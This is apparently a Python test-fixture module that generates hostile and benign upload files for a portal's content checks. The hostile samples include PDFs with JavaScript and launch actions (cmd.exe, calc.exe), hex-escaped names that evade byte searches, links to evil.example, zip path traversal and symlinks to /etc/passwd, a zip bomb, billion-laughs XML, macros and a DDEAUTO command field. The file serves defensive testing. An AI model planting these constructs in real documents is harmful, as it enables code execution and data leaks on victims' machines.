"""A corpus of hostile files, and of honest ones that look like them, made here from
nothing (pikepdf, zipfile, tarfile and hand-written bytes): what the upload checks in
``submissions.content_checks`` must refuse, and what they must still accept.

``HOSTILE`` maps a test id to (file name, content, refusal code, words of the English
message); ``BENIGN`` maps a test id to (file name, content)."""

import gzip
import io
import stat
import struct
import tarfile
import zipfile
import zlib

import openpyxl
import pikepdf
from openpyxl.chart import BarChart, Reference
from pikepdf import Array, Dictionary, Name, String
from PIL import Image

# --- PDF ---------------------------------------------------------------------------------


def pdf_bytes(change=None, *, object_streams=False, **save):
    """A one-page PDF with a line of text, changed by ``change(pdf)`` before saving;
    with ``object_streams``, every object that can be is packed in compressed object
    streams (so nothing of its dictionaries shows in the file's bytes)."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(595, 842))
    page = pdf.pages[0]
    font = pdf.make_indirect(
        Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica)
    )
    page.Resources = Dictionary(Font=Dictionary(F1=font))
    page.Contents = pdf.make_stream(b"BT /F1 12 Tf 72 770 Td (Test protocol) Tj ET")
    if change:
        change(pdf)
    buffer = io.BytesIO()
    if object_streams:
        save["object_stream_mode"] = pikepdf.ObjectStreamMode.generate
        save["compress_streams"] = True
    pdf.save(buffer, **save)
    return buffer.getvalue()


def raw_pdf(*bodies):
    """A PDF written by hand, object by object (``bodies[0]`` is object 1, the
    catalogue), with a correct cross-reference table: for names spelt with #-escapes
    and objects nothing refers to, which pikepdf would rewrite or drop."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(bodies, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(bodies) + 1)
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


PAGES = (
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
)


WORDS = b"BT /F1 12 Tf (/JavaScript /JS /Launch /URI) Tj ET"


def stream(data):
    return b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def page_with(extra):
    return b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] " + extra + b" >>"


def action(**entries):
    return Dictionary(Type=Name.Action, **entries)


def open_action(value):
    def change(pdf):
        pdf.Root.OpenAction = pdf.make_indirect(value)

    return change


def page_actions(**events):
    def change(pdf):
        pdf.pages[0].obj.AA = Dictionary(**events)

    return change


def annotation(**entries):
    def change(pdf):
        annot = Dictionary(Type=Name.Annot, Rect=Array([72, 700, 200, 720]), **entries)
        pdf.pages[0].obj.Annots = pdf.make_indirect(Array([pdf.make_indirect(annot)]))

    return change


def javascript_name_tree(pdf):
    script = pdf.make_indirect(action(S=Name.JavaScript, JS=String("app.alert(1)")))
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), script]))
    )


def attachment(pdf):
    pdf.attachments["payload.txt"] = pikepdf.AttachedFileSpec(pdf, b"hidden")


def xfa_form(pdf):
    pdf.Root.AcroForm = Dictionary(
        Fields=Array([]), XFA=pdf.make_stream(b"<xdp:xdp xmlns:xdp='x'/>")
    )


def script_behind_a_cycle(pdf):
    """Two actions chained by /Next into a loop; the second one is a script."""
    first = pdf.make_indirect(
        action(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]))
    )
    second = pdf.make_indirect(action(S=Name.JavaScript, JS=String("app.alert(1)")))
    first.Next = second
    second.Next = first
    pdf.Root.OpenAction = first


def internal_link(pdf):
    pdf.add_blank_page()
    annotation(
        Subtype=Name.Link,
        A=action(S=Name.GoTo, D=Array([pdf.pages[1].obj, Name.Fit])),
    )(pdf)


def outline_and_form(pdf):
    """A bookmark to page one and a plain text field: the usual furniture of a
    document, no active content."""
    field = pdf.make_indirect(
        Dictionary(FT=Name.Tx, T=String("name"), V=String("Иванов"), Ff=0)
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([field]))
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Начало", 0))


PDF_JS_IN_OBJECT_STREAM = pdf_bytes(
    open_action(action(S=Name.JavaScript, JS=String("app.alert(1)"))),
    object_streams=True,
)
assert b"JavaScript" not in PDF_JS_IN_OBJECT_STREAM  # hidden from a byte search

HOSTILE_PDFS = {
    "pdf-openaction-javascript": (
        open_action(action(S=Name.JavaScript, JS=String("app.alert(1)"))),
        "pdf_javascript",
    ),
    "pdf-names-javascript-tree": (javascript_name_tree, "pdf_javascript"),
    "pdf-openaction-uri": (
        open_action(action(S=Name.URI, URI=String("https://evil.example/ping"))),
        "pdf_external_link",
    ),
    "pdf-link-annotation-file-address": (
        annotation(
            Subtype=Name.Link,
            A=action(S=Name.URI, URI=String("file:///C:/Windows/win.ini")),
        ),
        "pdf_external_link",
    ),
    "pdf-link-annotation-network-path": (
        annotation(
            Subtype=Name.Link,
            A=action(S=Name.URI, URI=String("\\\\evil\\share\\x")),
        ),
        "pdf_external_link",
    ),
    "pdf-link-annotation-javascript-address": (
        annotation(
            Subtype=Name.Link,
            A=action(S=Name.URI, URI=String("javascript:app.alert(1)")),
        ),
        "pdf_external_link",
    ),
    "pdf-link-that-opens-by-itself": (
        annotation(
            Subtype=Name.Link,
            A=action(S=Name.URI, URI=String("https://example.kz/")),
            AA=Dictionary(E=action(S=Name.URI, URI=String("https://evil.example/"))),
        ),
        "pdf_external_link",
    ),
    "pdf-page-aa-uri": (
        page_actions(O=action(S=Name.URI, URI=String("https://evil.example/ping"))),
        "pdf_external_link",
    ),
    "pdf-openaction-goto-then-uri": (
        open_action(
            action(
                S=Name.GoTo,
                D=Array([0, Name.Fit]),
                Next=action(S=Name.URI, URI=String("https://evil.example/ping")),
            )
        ),
        "pdf_external_link",
    ),
    "pdf-gotor-remote-file": (
        annotation(
            Subtype=Name.Link,
            A=action(S=Name.GoToR, F=String("\\\\evil\\share\\x.pdf"), D=Array([0])),
        ),
        "pdf_external_link",
    ),
    "pdf-page-aa-submitform": (
        page_actions(
            O=action(S=Name.SubmitForm, F=String("https://evil.example/collect"))
        ),
        "pdf_form_submit",
    ),
    "pdf-openaction-importdata": (
        open_action(action(S=Name.ImportData, F=String("data.fdf"))),
        "pdf_form_submit",
    ),
    "pdf-page-aa-launch": (
        page_actions(O=action(S=Name.Launch, F=String("cmd.exe"))),
        "pdf_launch",
    ),
    "pdf-embedded-file": (attachment, "pdf_embedded_file"),
    "pdf-file-attachment-annotation": (
        annotation(
            Subtype=Name.FileAttachment,
            FS=Dictionary(Type=Name.Filespec, F=String("x.exe")),
        ),
        "pdf_embedded_file",
    ),
    "pdf-gotoe-embedded-target": (
        open_action(action(S=Name.GoToE, T=Dictionary(R=Name.C, N=String("x")))),
        "pdf_embedded_file",
    ),
    "pdf-acroform-xfa": (xfa_form, "pdf_xfa"),
    "pdf-richmedia-annotation": (annotation(Subtype=Name.RichMedia), "pdf_media"),
    "pdf-rendition-action": (
        open_action(action(S=Name.Rendition, OP=0)),
        "pdf_media",
    ),
    "pdf-script-behind-an-action-cycle": (script_behind_a_cycle, "pdf_javascript"),
}

MESSAGES = {
    "pdf_javascript": "script (JavaScript)",
    "pdf_external_link": "opens an address by itself",
    "pdf_form_submit": "sends or imports data",
    "pdf_launch": "starts a program",
    "pdf_embedded_file": "attached files",
    "pdf_xfa": "dynamic (XFA) form",
    "pdf_media": "multimedia",
    "pdf_password": "protected by a password",
    "pdf_damaged": "PDF is damaged",
    "archive_damaged": "archive is damaged",
    "archive_method": "method the portal cannot read",
    "archive_encrypted": "protected by a password",
    "archive_traversal": "points outside it",
    "archive_link": "symbolic link",
    "archive_special": "device file or a pipe",
    "archive_too_many": "more than 10 files",
    "archive_bomb": "zip bomb",
    "archive_too_large": "would be too large",
    "nested_archive": "Archives inside an archive",
    "archive_legacy_office": "old-format Office file",
    "office_macros": "contains macros",
    "office_activex": "ActiveX",
    "office_embedded": "embedded object",
    "office_external": "loads content from another address",
    "office_dde": "runs a command (DDE)",
    "disguised": "hides another file inside it",
}

# --- ZIP archives ---------------------------------------------------------------------


def zip_entries(*entries):
    """A ZIP of ``entries``: (name, content) pairs or ready ``zipfile.ZipInfo``s with
    their content."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return buffer.getvalue()


def member(name, mode, content=b""):
    """A member made on Unix with file type and permissions ``mode``."""
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = mode << 16
    return info, content


def marked_encrypted(archive):
    """``archive`` with its first member marked as encrypted (general purpose bit 0) in
    its local header and in the central directory, as an encrypting program writes
    it; zipfile cannot encrypt, so the flag is set in the bytes."""
    out = bytearray(archive)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = out.find(signature)
        (flags,) = struct.unpack("<H", out[start + offset : start + offset + 2])
        out[start + offset : start + offset + 2] = struct.pack("<H", flags | 0x1)
    return bytes(out)


def with_method(archive, method):
    """``archive`` claiming its members were packed with compression ``method``
    (9 is Deflate64, which Python cannot unpack)."""
    out = bytearray(archive)
    for signature, offset in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
        start = 0
        while (start := out.find(signature, start)) != -1:
            out[start + offset : start + offset + 2] = struct.pack("<H", method)
            start += 4
    return bytes(out)


def tar_of(name, content):
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo(name)
        info.size = len(content)
        archive.addfile(info, io.BytesIO(content))
    return buffer.getvalue()


OLE_DOC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + b"\xec\xa5\xc1\x00"

# --- office documents ---------------------------------------------------------------------

CT = "http://schemas.openxmlformats.org/package/2006/content-types"
RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def content_types(main_part, main_type, *extra):
    overrides = "".join(
        f'<Override PartName="{part}" ContentType="{kind}"/>'
        for part, kind in ((main_part, main_type), *extra)
    )
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{CT}">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f"{overrides}</Types>"
    )


def relationships(*rels):
    items = "".join(
        f'<Relationship Id="rId{number}" Type="{OFFICE_REL}/{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "")
        + "/>"
        for number, (kind, target, external) in enumerate(rels, start=1)
    )
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{RELS}">{items}</Relationships>'


def docx(
    body="<w:p><w:r><w:t>Описание</w:t></w:r></w:p>", *, parts=(), rels=(), types=()
):
    """A Word document: ``body`` in word/document.xml, its relationships ``rels``
    ((kind, target, external) triples), more ``parts`` and content ``types``."""
    document = f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}" xmlns:r="{OFFICE_REL}"><w:body>{body}</w:body></w:document>'
    return zip_entries(
        (
            "[Content_Types].xml",
            content_types("/word/document.xml", f"{DOCX_MAIN}.main+xml", *types),
        ),
        ("_rels/.rels", relationships(("officeDocument", "word/document.xml", False))),
        ("word/document.xml", document),
        ("word/_rels/document.xml.rels", relationships(*rels)),
        *parts,
    )


def xlsx(*, parts=(), types=()):
    """An Excel workbook of one sheet, with more ``parts`` and content ``types``."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    return zip_entries(
        (
            "[Content_Types].xml",
            content_types(
                "/xl/workbook.xml",
                f"{XLSX_MAIN}.main+xml",
                ("/xl/worksheets/sheet1.xml", f"{XLSX_MAIN}.worksheet+xml"),
                *types,
            ),
        ),
        ("_rels/.rels", relationships(("officeDocument", "xl/workbook.xml", False))),
        (
            "xl/workbook.xml",
            f'<workbook xmlns="{main}" xmlns:r="{OFFICE_REL}"><sheets>'
            '<sheet name="Лист1" sheetId="1" r:id="rId1"/></sheets></workbook>',
        ),
        (
            "xl/_rels/workbook.xml.rels",
            relationships(("worksheet", "worksheets/sheet1.xml", False)),
        ),
        (
            "xl/worksheets/sheet1.xml",
            f'<worksheet xmlns="{main}"><sheetData><row r="1"><c r="A1" t="inlineStr">'
            "<is><t>42</t></is></c></row></sheetData></worksheet>",
        ),
        *parts,
    )


def odt(*parts):
    """An OpenDocument text, with more ``parts``."""
    office = "urn:oasis:names:tc:opendocument:xmlns:office:1.0"
    return zip_entries(
        # Stored first and uncompressed, as the standard asks (and filetype looks).
        (zipfile.ZipInfo("mimetype"), "application/vnd.oasis.opendocument.text"),
        (
            "META-INF/manifest.xml",
            '<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:'
            'xmlns:manifest:1.0"/>',
        ),
        ("content.xml", f'<office:document-content xmlns:office="{office}"/>'),
        *parts,
    )


def field(code_runs):
    """A Word field whose code is split over the runs ``code_runs`` (as Word does)."""
    begin = '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
    code = "".join(
        f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'
        for text in code_runs
    )
    return f'<w:p>{begin}{code}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


BILLION_LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    '<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'
    f'<w:document xmlns:w="{W}">&lol2;</w:document>'
)

# --- images and polyglots -----------------------------------------------------------------


def png(text_chunk=None):
    """A small PNG; with ``text_chunk``, a tEXt chunk of it right after the header."""
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(buffer, "PNG")
    data = buffer.getvalue()
    if text_chunk is None:
        return data
    body = b"Comment\0" + text_chunk
    chunk = struct.pack(">I", len(body)) + b"tEXt" + body
    chunk += struct.pack(">I", zlib.crc32(b"tEXt" + body))
    return data[:33] + chunk + data[33:]


def openpyxl_workbook():
    """A workbook as a real program writes it: a hyperlink cell and a chart."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["Месяц", "Утечки"])
    for month, leaks in (("Январь", 3), ("Февраль", 1)):
        sheet.append([month, leaks])
    sheet["D1"].hyperlink = "https://example.kz/report"
    chart = BarChart()
    chart.add_data(
        Reference(sheet, min_col=2, min_row=1, max_row=3), titles_from_data=True
    )
    sheet.add_chart(chart, "E2")
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def jpeg():
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), "white").save(buffer, "JPEG")
    return buffer.getvalue()


# --- the corpus ----------------------------------------------------------------------------

CHART_WORKBOOK = ("word/embeddings/Microsoft_Excel_Worksheet.xlsx", xlsx())


def hostile():
    files = {
        name: ("файл.pdf", pdf_bytes(change), code)
        for name, (change, code) in HOSTILE_PDFS.items()
    }
    files.update(
        {
            "pdf-javascript-in-compressed-object-stream": (
                "файл.pdf",
                PDF_JS_IN_OBJECT_STREAM,
                "pdf_javascript",
            ),
            "pdf-hex-escaped-names": (
                "файл.pdf",
                raw_pdf(
                    b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
                    PAGES[1],
                    page_with(b""),
                    b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
                ),
                "pdf_javascript",
            ),
            "pdf-hex-escaped-key-only": (
                "файл.pdf",
                raw_pdf(
                    *PAGES,
                    page_with(b"/AA << /O << /#4A#53 (app.alert\\(1\\)) >> >>"),
                ),
                "pdf_javascript",
            ),
            "pdf-launch-in-an-object-nothing-refers-to": (
                "файл.pdf",
                raw_pdf(*PAGES, page_with(b""), b"<< /S /Launch /F (calc.exe) >>"),
                "pdf_launch",
            ),
            "pdf-user-password": (
                "файл.pdf",
                pdf_bytes(encryption=pikepdf.Encryption(owner="o", user="secret")),
                "pdf_password",
            ),
            "pdf-damaged": ("файл.pdf", b"%PDF-1.7\n\x00\xff garbage\n", "pdf_damaged"),
            "pdf-with-a-zip-appended": (
                "файл.pdf",
                pdf_bytes() + zip_entries(("run.exe", b"MZ")),
                "disguised",
            ),
            "png-with-a-pdf-header-inside": (
                "схема.png",
                png(b"%PDF-1.4 1 0 obj"),
                "disguised",
            ),
            "jpeg-with-a-zip-appended": (
                "фото.jpg",
                jpeg() + zip_entries(("a.txt", "a")),
                "disguised",
            ),
            "zip-nested-zip-renamed-txt": (
                "данные.zip",
                zip_entries(("notes.txt", zip_entries(("a.txt", "a")))),
                "nested_archive",
            ),
            "zip-nested-gzip-renamed": (
                "данные.zip",
                zip_entries(("report.dat", gzip.compress(b"x" * 100))),
                "nested_archive",
            ),
            "zip-nested-tar-renamed": (
                "данные.zip",
                zip_entries(("photo.jpg", tar_of("a.txt", b"a"))),
                "nested_archive",
            ),
            "zip-nested-7z": (
                "данные.zip",
                zip_entries(("x.bin", b"7z\xbc\xaf\x27\x1c\0\x04" + b"\0" * 32)),
                "nested_archive",
            ),
            "zip-nested-rar": (
                "данные.zip",
                zip_entries(("x.pdf.txt", b"Rar!\x1a\x07\x01\x00" + b"\0" * 32)),
                "nested_archive",
            ),
            "zip-symlink-member": (
                "данные.zip",
                zip_entries(member("passwd", stat.S_IFLNK | 0o777, b"/etc/passwd")),
                "archive_link",
            ),
            "zip-character-device-member": (
                "данные.zip",
                zip_entries(member("sda", stat.S_IFCHR | 0o600)),
                "archive_special",
            ),
            "zip-fifo-member": (
                "данные.zip",
                zip_entries(member("pipe", stat.S_IFIFO | 0o600)),
                "archive_special",
            ),
            "zip-dot-dot-member": (
                "данные.zip",
                zip_entries(("../evil.sh", "x")),
                "archive_traversal",
            ),
            "zip-backslash-dot-dot-member": (
                "данные.zip",
                zip_entries(("docs\\..\\..\\evil.bat", "x")),
                "archive_traversal",
            ),
            "zip-absolute-member": (
                "данные.zip",
                zip_entries(("/etc/cron.d/x", "x")),
                "archive_traversal",
            ),
            "zip-drive-letter-member": (
                "данные.zip",
                zip_entries(("C:/Windows/x.dll", "x")),
                "archive_traversal",
            ),
            "zip-encrypted-member": (
                "данные.zip",
                marked_encrypted(zip_entries(("secret.txt", b"stands for ciphertext"))),
                "archive_encrypted",
            ),
            "zip-with-an-encrypted-odt-inside": (
                "данные.zip",
                zip_entries(("описание.odt", marked_encrypted(odt()))),
                "archive_encrypted",
            ),
            "zip-bomb": (
                "данные.zip",
                zip_entries(("zeros.bin", b"\0" * (20 * 1024 * 1024))),
                "archive_bomb",
            ),
            "zip-too-many-members": (
                "данные.zip",
                zip_entries(*((f"{n}.txt", "x") for n in range(11))),
                "archive_too_many",
            ),
            "zip-duplicate-names": (
                "данные.zip",
                zip_entries(("a.txt", "honest"), ("A.txt", "other")),
                "archive_damaged",
            ),
            "zip-deflate64-member": (
                "данные.zip",
                with_method(zip_entries(("a.txt", "a" * 100)), 9),
                "archive_method",
            ),
            "zip-damaged": (
                "данные.zip",
                b"PK\x03\x04" + b"\x14\0" + b"\xff" * 200,
                "archive_damaged",
            ),
            "zip-with-a-javascript-pdf": (
                "данные.zip",
                zip_entries(("протокол.pdf", pdf_bytes(javascript_name_tree))),
                "pdf_javascript",
            ),
            "zip-with-a-legacy-doc": (
                "данные.zip",
                zip_entries(("отчёт.doc", OLE_DOC)),
                "archive_legacy_office",
            ),
            "zip-with-a-docx-with-macros": (
                "данные.zip",
                zip_entries(
                    ("описание.docx", docx(parts=[("word/vbaProject.bin", OLE_DOC)]))
                ),
                "office_macros",
            ),
            "docx-vbaproject": (
                "описание.docx",
                docx(parts=[("word/vbaProject.bin", b"\0" * 64)]),
                "office_macros",
            ),
            "docm-renamed-docx": (
                "описание.docx",
                docx(
                    types=[
                        (
                            "/word/settings.xml",
                            "application/vnd.ms-word.document.macroEnabled.main+xml",
                        )
                    ]
                ),
                "office_macros",
            ),
            "xlsx-excel4-macro-sheet": (
                "таблица.xlsx",
                xlsx(parts=[("xl/macrosheets/sheet1.xml", "<xm:macrosheet/>")]),
                "office_macros",
            ),
            "odt-basic-macro": (
                "описание.odt",
                odt(("Basic/Standard/Module1.xml", "<script:module/>")),
                "office_macros",
            ),
            "docx-external-attached-template": (
                "описание.docx",
                docx(
                    parts=[
                        (
                            "word/_rels/settings.xml.rels",
                            relationships(
                                (
                                    "attachedTemplate",
                                    "https://evil.example/template.dotm",
                                    True,
                                )
                            ),
                        )
                    ]
                ),
                "office_external",
            ),
            "docx-external-image-unc-path": (
                "описание.docx",
                docx(rels=[("image", "file://evil/share/pixel.png", True)]),
                "office_external",
            ),
            "xlsx-embedded-ole-object": (
                "таблица.xlsx",
                xlsx(parts=[("xl/embeddings/oleObject1.bin", OLE_DOC)]),
                "office_embedded",
            ),
            "docx-embedded-exe-named-xlsx": (
                "описание.docx",
                docx(parts=[("word/embeddings/data.xlsx", b"MZ\x90\0" + b"\0" * 64)]),
                "office_embedded",
            ),
            "pptx-activex-control": (
                "слайды.pptx",
                zip_entries(
                    (
                        "[Content_Types].xml",
                        content_types(
                            "/ppt/presentation.xml",
                            "application/vnd.openxmlformats-officedocument."
                            "presentationml.presentation.main+xml",
                        ),
                    ),
                    ("ppt/presentation.xml", "<p:presentation/>"),
                    ("ppt/activeX/activeX1.xml", "<ax:ocx/>"),
                ),
                "office_activex",
            ),
            "docx-ddeauto-field-split-over-runs": (
                "описание.docx",
                docx(
                    field(
                        ["DDE", 'AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c calc"']
                    )
                ),
                "office_dde",
            ),
            "docx-remote-includepicture-field": (
                "описание.docx",
                docx(field([' INCLUDEPICTURE "https://evil.example/p.png" \\d '])),
                "office_external",
            ),
            "docx-altchunk-rtf": (
                "описание.docx",
                docx(
                    rels=[("aFChunk", "afchunk.rtf", False)],
                    parts=[("word/afchunk.rtf", "{\\rtf1 {\\object}}")],
                ),
                "office_embedded",
            ),
            "zip-with-a-docx-with-an-ole-chart": (
                "данные.zip",
                zip_entries(
                    (
                        "отчёт.docx",
                        docx(parts=[("word/embeddings/oleObject1.bin", OLE_DOC)]),
                    )
                ),
                "office_embedded",
            ),
            "docx-billion-laughs": (
                "описание.docx",
                zip_entries(
                    (
                        "[Content_Types].xml",
                        content_types("/word/document.xml", DOCX_MAIN),
                    ),
                    ("word/document.xml", BILLION_LAUGHS),
                ),
                "archive_damaged",
            ),
            "docx-zip-disguised-as-its-picture": (
                "описание.docx",
                docx(parts=[("word/media/image1.png", zip_entries(("a.txt", "a")))]),
                "nested_archive",
            ),
        }
    )
    return files


def benign():
    return {
        "pdf-plain-text": ("протокол.pdf", pdf_bytes()),
        "pdf-internal-goto-link": ("протокол.pdf", pdf_bytes(internal_link)),
        "pdf-web-link-a-reader-clicks": (
            "протокол.pdf",
            pdf_bytes(
                annotation(
                    Subtype=Name.Link,
                    A=action(S=Name.URI, URI=String("https://example.kz/")),
                )
            ),
        ),
        "pdf-mail-link-a-reader-clicks": (
            "протокол.pdf",
            pdf_bytes(
                annotation(
                    Subtype=Name.Link,
                    A=action(S=Name.URI, URI=String("mailto:opi@example.kz")),
                )
            ),
        ),
        "pdf-outline-and-text-field": ("протокол.pdf", pdf_bytes(outline_and_form)),
        "pdf-object-streams": ("протокол.pdf", pdf_bytes(object_streams=True)),
        "pdf-owner-password-only": (
            "протокол.pdf",
            pdf_bytes(encryption=pikepdf.Encryption(owner="owner", user="")),
        ),
        "pdf-with-the-word-javascript-in-its-text": (
            "протокол.pdf",
            raw_pdf(*PAGES, page_with(b"/Contents 4 0 R"), stream(WORDS)),
        ),
        "docx-plain": ("описание.docx", docx()),
        "docx-external-hyperlink": (
            "описание.docx",
            docx(rels=[("hyperlink", "https://example.kz/", True)]),
        ),
        "docx-page-field": ("описание.docx", docx(field([" PAGE "]))),
        "docx-chart-workbook": ("описание.docx", docx(parts=[CHART_WORKBOOK])),
        "xlsx-plain": ("таблица.xlsx", xlsx()),
        "xlsx-by-openpyxl-with-hyperlink-and-chart": (
            "таблица.xlsx",
            openpyxl_workbook(),
        ),
        "odt-plain": ("описание.odt", odt()),
        "docx-local-includepicture-field": (
            "описание.docx",
            docx(field([' INCLUDEPICTURE "media/image1.png" \\* MERGEFORMAT '])),
        ),
        "zip-with-a-docx-with-a-chart-workbook": (
            "материалы.zip",
            zip_entries(("отчёт.docx", docx(parts=[CHART_WORKBOOK]))),
        ),
        "zip-of-documents": (
            "материалы.zip",
            zip_entries(
                ("описание.docx", docx()),
                ("протокол.pdf", pdf_bytes()),
                ("фото/1.txt", "x"),
                member("фото/", stat.S_IFDIR | 0o755),
                member("скрипт.sh", stat.S_IFREG | 0o755, b"echo"),
            ),
        ),
        "png-plain": ("схема.png", png()),
        "png-with-a-text-comment": ("схема.png", png(b"made by a camera")),
        "jpeg-plain": ("фото.jpg", jpeg()),
    }


HOSTILE = hostile()
BENIGN = benign()
